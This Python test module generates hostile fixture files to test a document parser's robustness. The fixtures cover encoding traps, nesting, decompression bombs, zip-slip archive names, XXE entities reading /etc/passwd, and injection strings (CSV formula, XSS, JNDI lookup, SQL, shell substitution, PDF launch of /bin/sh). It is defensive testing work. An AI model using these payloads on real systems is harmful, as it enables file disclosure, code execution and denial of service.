"""Some thousand hostile inputs, made by script: by the name of a file, the bytes in it.

What is expected of each stands in outcomes.tsv beside this.
"""

import bz2
import csv
import gzip
import io
import json
import random
import re
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator, Sequence
from xml.sax.saxutils import escape

import zstandard

from tests import kept
from tests.editions import ALL, CALL, LETTER, TABLE, volume
from tests.kept import ATOM, PAGE, PARAGRAPHS, RECORD, RSS, TEXT, TITLE, URL

Case = tuple[str, bytes]

FAMILIES = (
    *("encodings", "names", "spoilt", "disguised", "nested", "entities"),
    *("bombs", "members", "long_lines", "portable", "records", "mails", "books", "editions", "registers", "garbled"),
)
MEGABYTE = 1_000_000
UNWRITABLE = re.compile("[\x00-\x08\x0b-\x1f]")  # in XML
ODD = "André Kovač met Łukasz Żółw in Plzeň, said “Šimůnek”."
CYRILLIC = "Президент встретился с министром иностранных дел в Москве, сообщает пресс-служба."  # noqa: RUF001 - meant
ENCODINGS = {
    ODD: ("cp1250", "iso8859-2"),
    CYRILLIC: ("cp1251", "koi8-r", "iso8859-5", "cp866", "mac-cyrillic"),
    "大臣は東京で会談した。" * 5: ("shift_jis", "euc-jp", "gb18030"),
    "长官在北京会见了部长。" * 5: ("gb2312", "big5hkscs"),
    "السيد الوزير التقى الرئيس في القاهرة يوم الاثنين": ("cp1256", "iso8859-6"),
    "Ο πρόεδρος συναντήθηκε με τον υπουργό στην Αθήνα": ("cp1253", "iso8859-7"),  # noqa: RUF001 - meant
    "José met Zoë in Malmö.": ("latin-1", "cp850", "mac-roman"),
}
UNSEEN = (
    "\x01\x07\x08\x1b\x7f\x85\x9b\xad\u061c\u200b\u200c\u200d\u200e\u200f"
    "\u202a\u202b\u202d\u202e\u2060\u2066\u2067\u2069\ufeff\ufff9\U000e0041"
)
NAMES = (
    "=HYPERLINK(1)",
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "\x1b[2J\x1b[31mRed",
    "\x1b]0;title\x07",
    "\x9b31m",
    "{{7*7}}",
    "${jndi:ldap://a.example}",
    "'; DROP TABLE x; --",
    "%s%s%n",
    "$(touch x)",
    "`touch x`",
    "../../etc/passwd",
    "](javascript:alert(1))",
    "Z\u0351\u036b\u0343algo" + "\u0351" * 500,
    "\u0410\u043d\u043d\u0430",  # Cyrillic letters that look Latin
)
WRAPS: dict[str, Callable[[str], bytes]] = {
    "txt": lambda text: text.encode(),
    "html": lambda text: PAGE.replace("Ann Aare", text).encode(),
    "json": lambda text: json.dumps({"title": text, "text": TEXT.replace("Ann Aare", text)}).encode(),
    "csv": lambda text: f'title,text\n"{text.replace(chr(34), "")}","{TEXT}"\n'.encode(),
}


def every() -> Iterator[Case]:
    """Yield all of them; no two have one name."""
    for name in FAMILIES:
        yield from family(name)


def family(name: str) -> Iterator[Case]:
    """Yield those of one family."""
    made: Callable[[], Iterator[Case]] = globals()[name]
    return ((f"{name}/{file}", data) for file, data in made())


def encodings() -> Iterator[Case]:
    """Texts in encodings that nobody declares, that are declared wrongly, and that are none."""
    for text, codes in ENCODINGS.items():
        for code in codes:
            yield f"{code}.txt", text.encode(code, "replace")
            yield f"{code}-declared.html", _declared(text, code).encode(code, "replace")
    for code in ("utf-16", "utf-32", "utf-8-sig"):
        yield f"{code}-marked.txt", TEXT.encode(code)
    for code in ("utf-16-le", "utf-16-be", "utf-32-le"):
        yield f"{code}-unmarked.txt", TEXT.encode(code)
    broken = {
        "mixed": ODD.encode() + ODD.encode("cp1250"),
        "surrogate": b"Ann \xed\xa0\x80 met Bob.",
        "overlong": b"Ann \xc0\xaf met Bob.",
        "half": TEXT.encode() + b"\xe2\x82",
        "nul": b"Ann\0met Bob.",
        "beyond": b"Ann \xf5\x80\x80\x80 met.",
        "half-a-mark": b"\xff\xfeA",
        "only-a-mark": b"\xef\xbb\xbf",
        "space": b" \n\t\r\n" * 100,
        "ff": b"\xff" * 1000,
    }
    for name, data in broken.items():
        for suffix in ("txt", "html", "csv", "jsonl"):
            yield f"{name}.{suffix}", data
    yield "declared-nonsense.html", _declared(ODD, "klingon").encode("cp1250")
    yield "declared-hex.html", _declared(ODD, "hex").encode("cp1250")


def names() -> Iterator[Case]:
    """Signs that are not seen, and names that are code somewhere else."""
    for sign in UNSEEN:
        for suffix in ("txt", "json"):
            yield f"unseen-{ord(sign):x}.{suffix}", WRAPS[suffix](TEXT.replace("Ann Aare", f"Ann{sign} Aa{sign}re"))
    for number, name in enumerate(NAMES):
        for suffix, wrap in WRAPS.items():
            yield f"name-{number}.{suffix}", wrap(TEXT.replace("Ann Aare", name) if suffix == "txt" else name)


def spoilt() -> Iterator[Case]:
    """Every format, cut off, turned over and filled up."""
    for name, data in kept.every().items():
        for kind, bad in {
            "empty": b"",
            "begun": data[:5],
            "half": data[: len(data) // 2],
            "end": data[:-7],
            "flipped": bytes(byte ^ (0xFF if at % 97 == 50 else 0) for at, byte in enumerate(data)),
            "twice": data + data,
        }.items():
            yield f"{kind}-{name}", bad


def disguised() -> Iterator[Case]:
    """Each format under the suffix of another."""
    kinds = ("html", "mhtml", "rss", "json", "jsonl", "csv", "pdf", "docx", "eml", "warc", "zip", "tar", "gz", "zst")
    for name, data in kept.every().items():
        if name in {"a.txt", "a.html", "a.pdf", "a.docx", "a.zip", "a.tar.gz", "a.rss", "a.json"}:
            for kind in kinds:
                if kind != name.rpartition(".")[2]:
                    yield f"{name}.as.{kind}", data


def nested() -> Iterator[Case]:
    """Ten thousand levels of whatever can be nested."""
    deep = 10_000
    for tag in ("div", "b", "ul><li", "table><tr><td", "blockquote", "font", "span", "a", "form", "svg"):
        page = PAGE.replace("<p>", f"<{tag}>" * deep + "<p>", 1)
        yield f"{tag.split('>')[0]}.html", page.encode()
    for name, text in {
        "[": "[" * deep,
        "{": '{"a":' * deep,
        "[]": "[" * deep + "]" * deep,
        "{}": '{"a":' * deep + "1" + "}" * deep,
    }.items():
        for suffix in ("json", "jsonl"):
            yield f"json-{len(name)}-{ord(name[0])}.{suffix}", text.encode()
        inner = text if len(name) > 1 else "1"
        yield f"inner-{len(name)}-{ord(name[0])}.json", f'{{"text": {json.dumps(TEXT)}, "x": {inner}}}'.encode()
    yield "feed.rss", RSS.replace("<description>", "<a>" * deep + "<description>").encode()
    yield "feed-text.rss", RSS.replace("&lt;p&gt;", "&lt;div&gt;" * deep + "&lt;p&gt;", 1).encode()
    parts = b"".join(b'Content-Type: multipart/mixed; boundary="%d"\n\n--%d\n' % (at, at) for at in range(1_100))
    yield "parts.eml", b"Subject: x\nMIME-Version: 1.0\n" + parts + b"\nAnn met Bob."
    data = TEXT.encode()
    for level in range(20):
        data = kept.zipped({f"{level}.{'zip' if level else 'txt'}": data})
    yield "zips.zip", data
    data = TEXT.encode()
    for _ in range(20):
        data = gzip.compress(data, mtime=0)
    yield "packed.txt" + ".gz" * 20, data


def entities() -> Iterator[Case]:
    """XML that grows, and XML that asks for files and for the network."""
    laughs = "".join(f'<!ENTITY l{at} "{f"&l{at - 1};" * 10}">' for at in range(1, 4))
    kinds = {
        "laughs": (f'<!DOCTYPE x [<!ENTITY l0 "ha">{laughs}]>', "&l3;"),
        "square": (f'<!DOCTYPE x [<!ENTITY a "{"A" * 500}">]>', "&a;" * 200),
        "file": ('<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>', "&a;"),
        "network": ('<!DOCTYPE x [<!ENTITY a SYSTEM "http://127.0.0.1:9/a">]>', "&a;"),
        "parameter": ('<!DOCTYPE x [<!ENTITY % a SYSTEM "file:///etc/passwd"> %a;]>', "Ann"),
        "dtd": ('<!DOCTYPE x SYSTEM "http://127.0.0.1:9/x.dtd">', "&a;"),
        "itself": ('<!DOCTYPE x [<!ENTITY a "&b;"><!ENTITY b "&a;">]>', "&a;"),
        "include": ("", '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd"/>'),
    }
    for name, (head, use) in kinds.items():
        feed = RSS.split("?>", 1)[1].replace("Ann Aare", use)
        yield f"{name}.rss", f'<?xml version="1.0"?>{head}{feed}'.encode()
        yield f"{name}.xml", f'<?xml version="1.0"?>{head}<x>{use}</x>'.encode()
        yield f"{name}.atom", f'<?xml version="1.0"?>{head}{ATOM.replace("Ann Aare", use)}'.encode()
        yield (
            f"{name}.xhtml",
            f'<?xml version="1.0"?>{head}{PAGE.removeprefix("<!DOCTYPE html>").replace("Ann Aare", use)}'.encode(),
        )
        yield f"{name}.docx", _word_with(f'<?xml version="1.0"?>{head}', use)


def bombs() -> Iterator[Case]:
    """Little that unpacks to much."""
    packer = zlib.compressobj(9, wbits=31)
    block = b"\0" * MEGABYTE
    yield "zeros.txt.gz", (packed := b"".join(packer.compress(block) for _ in range(40)) + packer.flush())
    yield "zeros.jsonl.gz", packed
    yield "zeros.warc.gz", packed
    yield "zeros.tar.gz", packed
    yield "twice.txt.gz.gz", gzip.compress(packed, mtime=0)
    squeezer, zipper = bz2.BZ2Compressor(), zstandard.ZstdCompressor(level=3).compressobj()
    yield "zeros.txt.bz2", b"".join(squeezer.compress(block) for _ in range(40)) + squeezer.flush()
    yield "zeros.jsonl.zst", b"".join(zipper.compress(block) for _ in range(40)) + zipper.flush()
    yield "members.zip", kept.zipped({f"{at}.txt": block * 40 for at in range(5)})
    yield "lines.zip", kept.zipped({"a.jsonl": (b"\n" * 99 + b" ") * 300_000})
    yield "many.zip", kept.zipped({f"{at}.png": b"" for at in range(20_000)})
    yield "word.docx", _word_with("", "A" * 40 * MEGABYTE)
    yield "picture.docx", _with_member(kept.word(), "word/media/a.png", block * 60)
    yield "sparse.tar", _sparse(10**8)
    yield "head.tar.gz", gzip.compress(_long_head(2 * MEGABYTE), mtime=0)
    yield "answer.warc", kept.warc({URL: packed}, "text/html\r\nContent-Encoding: gzip")
    window = zstandard.ZstdCompressor(compression_params=zstandard.ZstdCompressionParameters(window_log=23)).compress(
        b"Ann"
    )
    yield "window.txt.zst", window
    yield "window-asked.txt.zst", b"\x28\xb5\x2f\xfd\x00\xf8" + b"\0" * 20


def members() -> Iterator[Case]:
    """Names in archives that lead out of them, and members that are no files."""
    out = (
        "../a.txt",
        "/etc/a.txt",
        "a/../../b.txt",
        "..\\a.txt",
        "C:\\a.txt",
        "a\nb.txt",
        "\x1b[31m.txt",
        "a" * 5000 + ".txt",
        "\u202etxt.a.txt",
    )
    for number, name in enumerate(out):
        yield f"name-{number}.zip", kept.zipped({name: TEXT.encode()})
        yield f"name-{number}.tar", kept.tarred({name: TEXT.encode()})
    for kind in (
        tarfile.SYMTYPE,
        tarfile.LNKTYPE,
        tarfile.CHRTYPE,
        tarfile.BLKTYPE,
        tarfile.FIFOTYPE,
        tarfile.DIRTYPE,
        b"Z",
    ):
        stream = io.BytesIO()
        with tarfile.open(fileobj=stream, mode="w") as archive:
            member = tarfile.TarInfo("a.txt")
            member.type, member.linkname = kind, "/etc/passwd"
            archive.addfile(member)
        yield f"type-{kind[0]}.tar", stream.getvalue()
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as zipped:
        link = zipfile.ZipInfo("a.txt")
        link.external_attr = 0o120777 << 16
        zipped.writestr(link, "/etc/passwd")
    yield "link.zip", stream.getvalue()
    plain = kept.zipped({"a.txt": TEXT.encode()})
    yield (
        "locked.zip",
        plain.replace(b"PK\x03\x04\x14\x00\x00", b"PK\x03\x04\x14\x00\x01").replace(
            b"PK\x01\x02\x14\x03\x14\x00\x00", b"PK\x01\x02\x14\x03\x14\x00\x01"
        ),
    )
    yield "method.zip", plain.replace(b"\x14\x00\x00\x00\x08\x00", b"\x14\x00\x00\x00\x63\x00")


def long_lines() -> Iterator[Case]:
    """Fifty megabytes without an end of line, and pages of five."""
    for suffix in ("txt", "html", "jsonl", "json", "csv", "eml", "md", "rss"):
        yield f"fifty.{suffix}", b"Ann met Bob. " * 4 * MEGABYTE
    yield "record.jsonl", b'{"text": "' + b"Ann met Bob. " * 4 * MEGABYTE + b'"}\n' + json.dumps(RECORD).encode()
    yield "unbroken.txt", b"A" * 90_000
    yield "blank.jsonl", b"\n" * MEGABYTE
    for name, filling in {
        "text": "Ann met Bob. ",
        "tags": "<p>a",
        "some": "<p>Ann Aare met Bob Berg.",
        "open": "<",
        "links": "<a href=a>a</a>",
        "entities": "&amp;",
        "attributes": "<p a=b c=d e=f>",
    }.items():
        yield f"page-{name}.html", PAGE.replace("<p>", "<p>" + filling * (900_000 // len(filling)), 1).encode()
    yield "comment.html", PAGE.replace("<p>", "<!--" + "-" * 500_000, 1).encode()


def portable() -> Iterator[Case]:
    """PDF files that do more than show a text, or less."""
    extras = {
        "javascript": "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>",
        "launch": "/OpenAction << /S /Launch /F (/bin/sh) >>",
        "uri": "/OpenAction << /S /URI /URI (http://127.0.0.1:9/) >>",
        "names": "/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (1) >>] >> >>",
    }
    for name, extra in extras.items():
        yield f"{name}.pdf", kept.pdf(TEXT, extra=extra)
    plain = kept.pdf(TEXT)
    yield (
        "locked.pdf",
        plain.replace(b"/Root 1 0 R", b"/Root 1 0 R /Encrypt << /Filter /Standard /V 1 /R 2 /O (a) /U (b) /P -4 >>"),
    )
    yield "circle.pdf", plain.replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]")
    yield "count.pdf", plain.replace(b"/Count 1", b"/Count 999999999")
    yield "negative.pdf", plain.replace(b"/Count 1", b"/Count -5")
    yield "itself.pdf", plain.replace(b"/Contents 4 0 R", b"/Contents 3 0 R")
    yield "scanned.pdf", kept.pdf("")
    yield "no-table.pdf", plain[: plain.index(b"xref")]
    yield "previous.pdf", plain.replace(b"/Info 6 0 R", b"/Info 6 0 R /Prev 9")
    yield "deep.pdf", plain.replace(b"/Root 1 0 R", b"/Root 1 0 R /X " + b"[" * 10_000)


def records() -> Iterator[Case]:
    """Tables and records of the wrong shape, and feeds."""
    rows = {
        "columns": ",".join(f"c{at}" for at in range(100_000)) + ",text\n" + "," * 100_000 + "Ann\n",
        "quote": f'title,text\n"a,{TEXT}\n',
        "rows": "title,text\n" + ",\n" * 1000,
        "short": "title,text,url\na\n",
        "long": f"title,text\na,{TEXT},c,d,e\n",
        "head": "title\n",
        "same": f"text,text,title\na,b,{TITLE}\n",
        "formula": f'title,text\n=1+1,"{TEXT}"\n',
    }
    for name, text in rows.items():
        yield f"{name}.csv", text.encode()
    values = {
        "number": "1",
        "null": "null",
        "nan": "NaN",
        "string": '"a"',
        "list": "[1, null, []]",
        "keys": '{"a": 1}',
        "twice": '{"text": "a", "text": 1}',
        "digits": '{"id": ' + "9" * 10_000 + ', "text": "a"}',
        "date": '{"text": "Ann met Bob.", "date": "0000-99-99"}',
        "surrogate": '{"text": "\\ud800"}',
        "nul": '{"text": "\\u0000"}',
        "types": '{"text": {"a": 1}, "title": []}',
        "author": '{"text": "Ann", "author": [1, {}]}',
        "url": json.dumps({"text": TEXT, "url": "javascript:alert(1)"}),
        "id": json.dumps({"text": TEXT, "id": "../../x"}),
    }
    for name, text in values.items():
        yield f"{name}.json", text.encode()
    yield "relative.rss", RSS.replace(URL, "/2024/05/14/a").encode()
    yield "script-link.rss", RSS.replace(URL, "javascript:alert(1)").encode()
    yield "no-entries.rss", b"<rss version='2.0'><channel><title>a</title></channel></rss>"
    yield "many.rss", RSS.replace("<item>", "<item><title>a</title></item>" * 3000 + "<item>").encode()
    yield "no-feed.xml", b"<?xml version='1.0'?><urlset><url><loc>https://a.example</loc></url></urlset>"
    line = b"WARC/1.0\r\nWARC-Type: response\r\n"
    yield "length.warc", line + b"Content-Length: 99999999999999\r\n\r\nHTTP/1.1 200 OK\r\n\r\nAnn"
    yield "negative.warc", line + b"Content-Length: -5\r\n\r\nAnn"
    yield "heads.warc", b"WARC/1.0\r\n" + b"A: b\r\n" * 100_000
    yield "head.warc", b"WARC/1.0\r\nA: " + b"b" * 5 * MEGABYTE
    yield "chunks.warc", kept.warc({URL: b"FFFFFFFF\r\nAnn"}, "text/html\r\nTransfer-Encoding: chunked")


def mails() -> Iterator[Case]:
    """Mails that stumble, or make others stumble."""
    plain = kept.mail()
    yield "charset.eml", plain.replace(b'charset="utf-8"', b'charset="klingon"')
    yield "base64.eml", plain.replace(b"7bit", b"base64")
    yield "quoted.eml", plain.replace(b"7bit", b"quoted-printable").replace(b"Ann", b"=ZZ=")
    yield "heads.eml", b"A: b\n" * 200_000 + b"\nAnn met Bob."
    yield "date.eml", plain.replace(b"14 May 2024", b"99 Xyz 99999999999999999")
    yield "word.eml", plain.replace(b"Subject: ", b"Subject: =?utf-8?b?////?= =?x?y?z?= \xff")
    yield "html.eml", kept.mail(f"<script>alert(1)</script>{PARAGRAPHS}", "html")
    yield "attached.eml", b"MIME-Version: 1.0\nContent-Type: application/pdf\n\n%PDF"
    yield "boundary.eml", b"MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=a\n\n" + b"--a\n\nx\n" * 5000
    yield "head-only.mhtml", b"From: <Saved by Blink>\nMIME-Version: 1.0\n\n"


def books() -> Iterator[Case]:
    """Spreadsheets that are none, that lack what they name, and that show what no table has."""
    head, row = ("id", "title", "text", "url"), ("a1", TITLE, TEXT, URL)
    plain, ods = kept.workbook(head, row), open_sheet(head, row)
    sheet = "xl/worksheets/sheet1.xml"
    with zipfile.ZipFile(io.BytesIO(plain)) as book:
        cells = book.read(sheet)
    bad = {
        "no-end": cells[: len(cells) // 2],
        "empty": b"",
        "odd-cell": cells.replace(b'r="A1"', b'r="-1"'),
        "number": cells.replace(b"<v>0</v>", b"<v>999999999</v>"),
        "error": cells.replace(b't="s"', b't="e"'),
        "entity": b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>' + cells.replace(b"<v>0</v>", b"<v>&a;</v>"),
    }
    for name, data in bad.items():
        yield f"{name}.xlsx", _with_member(plain, sheet, data)
    for member in ("xl/workbook.xml", "xl/sharedStrings.xml", "[Content_Types].xml", "xl/_rels/workbook.xml.rels"):
        yield f"none-{member.rpartition('/')[2].strip('[]')}.xlsx", _with_member(plain, member, b"")
    for name, value in {"formula": "=1+1", "steering": "\x1b[31mRed", "long": "A" * 32_000, "script": NAMES[4]}.items():
        yield f"{name}.ods", open_sheet(head, ("a1", value, TEXT, URL))
    yield "formula.xlsx", kept.workbook(head, ("=HYPERLINK(1)", TITLE, TEXT, "=1+1"))
    yield "other.xlsx", kept.workbook(("a", "b"), ("1", "2"))
    yield "nothing.xlsx", kept.workbook()
    yield "short.xlsx", kept.workbook(head, ("a1",), ("a2", TITLE), row)
    yield "wide.xlsx", kept.workbook(tuple(f"c{at}" for at in range(2_000)), row)
    yield "repeated.ods", open_sheet(head, row, rows=' table:number-rows-repeated="500"')
    yield "ods.xlsx", ods
    yield "xlsx.ods", plain
    yield "no-content.ods", _with_member(ods, "content.xml", b"")
    yield "half.ods", _with_member(ods, "content.xml", b"<office:document-content><office:body>")


def open_sheet(*lines: tuple[str, ...], rows: str = "") -> bytes:
    """Write an ODS file of one sheet; `rows`: attributes of the last of its rows."""
    spaces = " ".join(
        f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"' for name in ("office", "table", "text")
    )
    cell = '<table:table-cell office:value-type="string"><text:p>{}</text:p></table:table-cell>'
    written = ["".join(cell.format(escape(UNWRITABLE.sub("", it))) for it in line) for line in lines]
    body = "".join(
        f"<table:table-row{rows if line is written[-1] else ''}>{line}</table:table-row>" for line in written
    )
    table = f'<table:table table:name="a">{body}</table:table>'
    content = (
        f'<?xml version="1.0"?><office:document-content {spaces}><office:body><office:spreadsheet>{table}'
        "</office:spreadsheet></office:body></office:document-content>"
    )
    media = "application/vnd.oasis.opendocument.spreadsheet"
    manifest = (
        '<?xml version="1.0"?><m:manifest xmlns:m="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
        f'<m:file-entry m:full-path="/" m:media-type="{media}"/></m:manifest>'
    )
    files = {"mimetype": media, "content.xml": content, "META-INF/manifest.xml": manifest}
    return kept.zipped({name: text.encode() for name, text in files.items()})


def editions() -> Iterator[Case]:
    """Editions in TEI that lack what they are made of, say it twice, or say it where it is not meant."""
    plain = volume(*ALL)
    changed = {
        "no-header": re.sub(r"(?s)<teiHeader.*</teiHeader>", "", plain),
        "no-body": re.sub(r"(?s)<text\b.*</text>", "", plain),
        "half": plain[: len(plain) // 2],
        "twice": plain + plain,
        "space": plain.replace("http://www.tei-c.org/ns/1.0", "urn:other"),
        "ids": re.sub(r'xml:id="[^"]*"', 'xml:id="a"', plain),
        "no-ids": re.sub(r'xml:id="[^"]*"', "", plain),
        "types": re.sub(r'type="[^"]*"', 'type=""', plain),
        "days": re.sub(r'when="[^"]*"', 'when="0000-99-99"', plain),
        "links": re.sub(r'corresp="[^"]*"', 'corresp="#nobody"', plain),
        "entity": plain.replace("<TEI", '<!DOCTYPE TEI [<!ENTITY a SYSTEM "file:///etc/passwd">]><TEI', 1).replace(
            "Oslo", "&a;"
        ),
        "deep": plain.replace("<p>", "<p>" + "<hi>" * 300, 1).replace("</p>", "</hi>" * 300 + "</p>", 1),
        "signs": plain.replace("Oslo", "Os\u202elo\u200b"),
        "script": plain.replace("Oslo", "&lt;script&gt;alert(1)&lt;/script&gt;"),
        "encoding": plain.replace("utf-8", "klingon").replace("UTF-8", "klingon"),
    }
    for name, text in changed.items():
        yield f"{name}.xml", text.encode()
    for name, text in {"letter": LETTER, "table": TABLE, "call": CALL}.items():
        yield f"{name}-alone.tei", text.encode()
    yield "wide.xml", plain.encode("utf-16")


def registers() -> Iterator[Case]:
    """Put cells of every kind into every place of a register."""
    head = ("Minister", "Date", "Name of organisation or individual", "Purpose of meeting")
    row = ("Bob Berg", "14 May 2024", "Ann Aare; Otter Trust", "To discuss the harbour")
    cells = {
        "empty": "",
        "far": "99/99/9999",
        "number": "9" * 400,
        "long": "A" * 20_000,
        "many": "; ".join(f"Ann Aare{at}" for at in range(300)),
        "separators": ";,/&" * 300,
        "brackets": "(" * 2_000,
        "signs": "".join(UNSEEN),
        "formula": "=HYPERLINK(1)",
        "lines": "\n".join(["Ann Aare"] * 50),
        "month": "May",
        "nil": "Nil return",
    }
    for place in range(len(row)):
        for name, cell in cells.items():
            changed = [*row[:place], cell, *row[place + 1 :]]
            yield f"{name}-{place}.csv", _table(head, changed, row)
    yield "no-rows.csv", _table(head)
    yield "heads.csv", _table(*[head] * 20)
    yield "notes.csv", b"Department of Peace\nMeetings\n\n" + _table(head, row) + b"Notes,,,\n"
    yield "same-heads.csv", _table((head[0],) * 4, row)
    yield "turned.csv", _table(*zip(head, row, strict=True))


def garbled() -> Iterator[Case]:
    """Every format with bytes changed, put in and left out by chance, which is the same each time."""
    head, row = ("id", "title", "text", "url"), ("a1", TITLE, TEXT, URL)
    others = {"a.ods": open_sheet(head, row), "b.xml": volume(*ALL).encode()}
    dice = random.Random(16)  # noqa: S311 - chance spoils the files
    for name, data in (kept.every() | others).items():
        for turn in range(8):
            bad = bytearray(data)
            for _ in range(dice.choice((1, 3, 20))):
                at = dice.randrange(len(bad))
                bad[at : at + dice.choice((0, 1, 30))] = dice.randbytes(dice.choice((0, 1, 8)))
            yield f"{turn}-{name}", bytes(bad)


def _table(*rows: Sequence[str]) -> bytes:
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue().encode()


def _declared(text: str, code: str) -> str:
    return f"<html><head><meta charset={code}><title>a</title></head><body><p>{text} {text} {text}</p></body></html>"


def _word_with(head: str, text: str) -> bytes:
    """Write a Word file whose text begins with a head of its own."""
    body = f'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>'
    return _with_member(kept.word(), "word/document.xml", (head + body).encode())


def _with_member(archive: bytes, name: str, data: bytes) -> bytes:
    """Put a member into a ZIP archive, in the place of the one that is there."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(archive)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for member in old.infolist():
            if member.filename != name:
                new.writestr(member.filename, old.read(member))
        new.writestr(name, data)
    return out.getvalue()


def _sparse(size: int) -> bytes:
    """Write a tar with a file that has a hole of that size and nothing else."""
    member = tarfile.TarInfo("a.jsonl")
    member.type, member.size = tarfile.GNUTYPE_SPARSE, 0
    head = bytearray(member.tobuf(tarfile.GNU_FORMAT))
    head[386:410] = f"{0:011o}\0{0:011o}\0".encode()
    head[483:495] = b"\x80" + size.to_bytes(11, "big")
    head[148:156] = b" " * 8
    head[148:156] = f"{sum(head):06o}\0 ".encode()
    return bytes(head) + b"\0" * 1024


def _long_head(size: int) -> bytes:
    """Write a tar that says of a file what takes that many bytes."""
    member = tarfile.TarInfo("././@PaxHeader")
    member.type, member.size = tarfile.XHDTYPE, size
    return member.tobuf(tarfile.USTAR_FORMAT) + b"9" * size
